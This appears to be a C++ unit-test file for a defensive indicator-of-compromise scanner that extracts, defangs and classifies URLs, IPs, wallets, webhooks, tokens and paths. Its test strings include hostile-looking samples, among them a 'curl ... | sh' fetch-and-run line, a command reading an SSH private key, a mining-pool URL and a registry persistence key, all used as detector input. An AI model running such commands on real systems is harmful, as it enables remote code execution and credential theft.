#include "indicator/indicator.h"

#include <gtest/gtest.h>

#include <random>
#include <string>
#include <vector>

namespace pyverdict::indicator {
namespace {

std::string shown(std::string_view text) {
  std::string result;
  for (const Match& match : scan(text)) {
    if (!result.empty()) result += ' ';
    result += std::string(name(match.type)) + "=" + match.value;
  }
  return result;
}

struct Case {
  const char* text;
  const char* found;
};

class Finds : public testing::TestWithParam<Case> {};

TEST_P(Finds, WhatAResponderWouldSearchFor) { EXPECT_EQ(shown(GetParam().text), GetParam().found); }

INSTANTIATE_TEST_SUITE_P(
    Positives, Finds,
    testing::Values(
        Case{"http://h.example.invalid/a.sh", "url=http://h.example.invalid/a.sh domain=h.example.invalid"},
        Case{"curl -s https://192.0.2.7:8080/x?y=1 | sh", "url=https://192.0.2.7:8080/x?y=1 ipv4=192.0.2.7"},
        Case{"see (http://a.example.invalid/b).", "url=http://a.example.invalid/b domain=a.example.invalid"},
        Case{"hxxps://evil[.]example[.]invalid/p",
             "url=https://evil.example.invalid/p domain=evil.example.invalid"},
        Case{"stratum+tcp://pool.example.invalid:3333",
             "url=stratum+tcp://pool.example.invalid:3333 domain=pool.example.invalid"},
        Case{"http://[2001:db8::7]/x", "url=http://[2001:db8::7]/x ipv6=2001:db8::7"},
        Case{"ftp://user:pw@files.example.invalid/x",
             "url=ftp://user:pw@files.example.invalid/x domain=files.example.invalid"},
        Case{"198.51.100.4:4444", "ipv4=198.51.100.4"}, Case{"10.0.0.5", "ipv4=10.0.0.5"},
        Case{"host=203.0.113.9", "ipv4=203.0.113.9"}, Case{"2001:db8::1", "ipv6=2001:db8::1"},
        Case{"connect c2.example.invalid now", "domain=c2.example.invalid"},
        Case{"metadata.google.internal", "domain=metadata.google.internal"},
        Case{"evil-host.xyz", "domain=evil-host.xyz"},
        Case{"abcdefghij234567abcdefghij234567abcdefghij234567abcdefgh.onion",
             "domain=abcdefghij234567abcdefghij234567abcdefghij234567abcdefgh.onion"},
        Case{"mail a.b@example.invalid", "email=a.b@example.invalid"},
        Case{"/etc/cron.d/x", "path=/etc/cron.d/x"}, Case{"cat ~/.ssh/id_rsa", "path=~/.ssh/id_rsa"},
        Case{"C:\\Users\\Public\\a.exe", "path=C:\\Users\\Public\\a.exe"},
        Case{"C:\\Program Files\\A\\b.dll", "path=C:\\Program Files\\A\\b.dll"},
        Case{"%APPDATA%\\x\\y.exe", "path=%APPDATA%\\x\\y.exe"},
        Case{"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
             "registryKey=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"},
        // Genesis and documentation addresses: nobody's.
        Case{"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "wallet=1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"},
        Case{"bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
             "wallet=bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"},
        Case{"0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
             "wallet=0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"},
        Case{
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
            "wallet="
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3"
            "A"},
        Case{"https://discord.com/api/webhooks/000000000000000000/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
             "webhook=https://discord.com/api/webhooks/000000000000000000/"
             "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa "
             "domain=discord.com"},
        Case{"AKIAIOSFODNN7EXAMPLE", "token=AKIAIOSFODNN7EXAMPLE"},
        Case{"000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
             "token=000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
        Case{"d41d8cd98f00b204e9800998ecf8427e", "hash=d41d8cd98f00b204e9800998ecf8427e"},
        Case{"sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 "
             "e3b0c44298fc1c149afbf4c8996fb924"
             "27ae41e4649b934ca495991b7852b855",
             "hash=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}));

INSTANTIATE_TEST_SUITE_P(
    Negatives, Finds,
    testing::Values(Case{"", ""}, Case{"os.path.join", ""}, Case{"foo.py", ""}, Case{"README.md", ""},
                    Case{"self.name", ""}, Case{"logging.info", ""}, Case{"java.lang.String", ""},
                    Case{"1.2.3", ""}, Case{"1.2.3.4.5", ""}, Case{"version 1.2.3.4", ""},
                    Case{"pkg==1.22.33.44", ""}, Case{"127.0.0.1", ""}, Case{"0.0.0.0", ""},
                    Case{"255.255.255.0", ""}, Case{"1.3.6.1.4.1.311", ""},
                    Case{"Chrome/120.0.6099.71 Safari/537.36", ""}, Case{"256.1.1.1", ""},
                    Case{"01.2.3.4", ""}, Case{"django.contrib.auth", ""}, Case{"http://localhost:8080/", ""},
                    Case{"http://{host}/x", ""}, Case{"file:///etc/passwd.d/x", ""},
                    Case{"application/json", ""}, Case{"/api/v1/users", ""}, Case{"and/or", ""},
                    Case{"12:34:56", ""}, Case{"std::string", ""}, Case{"a@b", ""}, Case{"@decorator", ""},
                    Case{"/dev/null", ""}, Case{"00000000000000000000000000000000", ""}, Case{"deadbeef", ""},
                    Case{"1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", ""},
                    Case{"0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD", ""}, Case{"std.example", ""}));

TEST(Scan, SpansLieInTheTextAndShowTheValue) {
  const std::string text = "a = 'http://h.example.invalid/x' # 198.51.100.4:80, ~/.aws/credentials";
  for (const Match& match : scan(text)) {
    ASSERT_LT(match.start, match.end);
    ASSERT_LE(match.end, text.size());
    EXPECT_NE(text.substr(match.start, match.end - match.start).find(match.value), std::string::npos)
        << match.value;
  }
}

TEST(Scan, TakesAnyBytes) {
  std::mt19937 random(7);
  const std::string alphabet = "http://.[]@:\\%~ab19HKCU\n\xff";
  for (int round = 0; round < 20'000; ++round) {
    std::string text;
    for (std::size_t i = random() % 60; i > 0; --i) text += alphabet[random() % alphabet.size()];
    for (const Match& match : scan(text)) ASSERT_LE(match.end, text.size()) << text;
  }
}

struct Defanging {
  Type type;
  const char* value;
  const char* defanged;
};

TEST(Defang, MakesValuesHarmless) {
  const Defanging cases[] = {
      {Type::Url, "https://evil.example.invalid/p.sh", "hxxps://evil[.]example[.]invalid/p.sh"},
      {Type::Url, "ftp://a.example.invalid", "fxp://a[.]example[.]invalid"},
      {Type::Ipv4, "203.0.113.7", "203[.]0[.]113[.]7"},
      {Type::Email, "a@b.example", "a[@]b[.]example"},
      {Type::Path, "/etc/passwd", "/etc/passwd"},
      {Type::Webhook, "https://discord.com/api/webhooks/1/secret", "hxxps://discord[.]com/api/webhooks/1/…"},
      {Type::Webhook, "https://api.telegram.org/bot123:secret/sendMessage",
       "hxxps://api[.]telegram[.]org/bot123:…"},
  };
  for (const Defanging& row : cases) EXPECT_EQ(defang(row.type, row.value), row.defanged);
  EXPECT_EQ(defang(Type::Token, "AKIAIOSFODNN7EXAMPLE").find("EXAMPLE"), std::string::npos);
}

TEST(VirusTotal, HasPagesForPublicThingsOnly) {
  EXPECT_EQ(virus_total_link(Type::Domain, "pypi.org"), "https://www.virustotal.com/gui/domain/pypi.org");
  EXPECT_EQ(virus_total_link(Type::Ipv4, "8.8.4.4"), "https://www.virustotal.com/gui/ip-address/8.8.4.4");
  EXPECT_EQ(virus_total_link(Type::Url, "http://pypi.org/a"),
            "https://www.virustotal.com/gui/search/http%253A%252F%252Fpypi.org%252Fa");
  for (const char* host : {"h.example.invalid", "metadata.google.internal", "localhost", "a.local"}) {
    EXPECT_EQ(virus_total_link(Type::Domain, host), "") << host;
  }
  for (const char* address : {"10.0.0.1", "192.0.2.1", "127.0.0.1", "169.254.169.254"}) {
    EXPECT_EQ(virus_total_link(Type::Ipv4, address), "") << address;
  }
  EXPECT_EQ(virus_total_link(Type::Path, "/etc/passwd"), "");
}

TEST(Addresses, AreClassified) {
  struct Row {
    const char* address;
    AddressClass kind;
  };
  const Row rows[] = {{"8.8.8.8", AddressClass::Public},
                      {"192.168.1.1", AddressClass::Private},
                      {"172.31.0.1", AddressClass::Private},
                      {"172.32.0.1", AddressClass::Public},
                      {"203.0.113.1", AddressClass::Documentation},
                      {"169.254.169.254", AddressClass::LinkLocal},
                      {"::1", AddressClass::Loopback},
                      {"2001:db8::", AddressClass::Documentation},
                      {"fe80::1", AddressClass::LinkLocal},
                      {"fd00::1", AddressClass::Private},
                      {"2606:4700::1", AddressClass::Public},
                      {"::ffff:10.0.0.1", AddressClass::Private},
                      {"1.2.3", AddressClass::Reserved},
                      {"1:2:3", AddressClass::Reserved}};
  for (const Row& row : rows) EXPECT_EQ(classify_address(row.address), row.kind) << row.address;
}

}  // namespace
}  // namespace pyverdict::indicator
